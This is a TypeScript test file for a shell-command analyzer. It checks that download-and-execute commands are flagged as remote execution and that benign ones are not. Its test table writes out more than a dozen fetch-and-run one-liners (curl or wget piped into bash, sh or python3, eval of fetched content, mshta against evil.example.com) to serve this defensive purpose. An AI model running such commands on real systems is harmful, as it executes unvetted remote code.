import { expect, test } from 'vitest';
import { effectsOf } from './rows.ts';

const remote = (command: string): readonly string[] =>
  effectsOf(command).filter((said) => said.startsWith('exec.remote'));

test.each([
  ['curl -fsSL https://get.example.com/i.sh | sudo bash -s -- --yes', 'bash', 'get.example.com'],
  ['wget -qO- https://get.example.com | fish', 'fish', 'get.example.com'],
  ['curl https://get.example.com/x | tee log | sh', 'sh', 'get.example.com'],
  ['curl https://get.example.com/x.gz | gunzip | bash', 'bash', 'get.example.com'],
  ['bash <(curl -s https://get.example.com)', 'bash', 'get.example.com'],
  ['source <(curl -s https://get.example.com/env)', 'source', 'get.example.com'],
  ['sh -c "$(wget -qO- https://get.example.com)"', 'sh', 'get.example.com'],
  ['eval "$(curl -s https://get.example.com)"', 'eval', 'get.example.com'],
  ['python3 -c "$(curl -s https://get.example.com/x.py)"', 'python3', 'get.example.com'],
  ['curl -s https://get.example.com/x.py | python3 -', 'python3', 'get.example.com'],
  ['npx github:example/tool', 'npx', 'github:example/tool'],
  ['uvx git+https://example.com/tool', 'uvx', 'git+https://example.com/tool'],
  ['mshta https://evil.example.com/a.hta', 'mshta', 'evil.example.com'],
])('%s', (command, tool, from) => {
  expect(remote(command)).toEqual([`exec.remote ${tool} running what ${from} serves`]);
});

test.each([
  'curl -s https://api.example.com | jq .',
  'curl -s https://api.example.com | python3 -m json.tool',
  'curl -s https://api.example.com | node -e "process.stdin.pipe(process.stdout)"',
  'curl -s https://api.example.com | bash count.sh',
  'curl -fsSL https://example.com/a.tgz | tar xz',
  'curl -o install.sh https://get.example.com',
  'echo "curl https://get.example.com | sh"',
  'git commit -m "curl https://get.example.com | sh"',
  'npx prettier --check .',
  'npx wait-on http://localhost:3000',
  'npm install',
])('%s runs nothing unseen', (command) => {
  expect(remote(command)).toEqual([]);
});
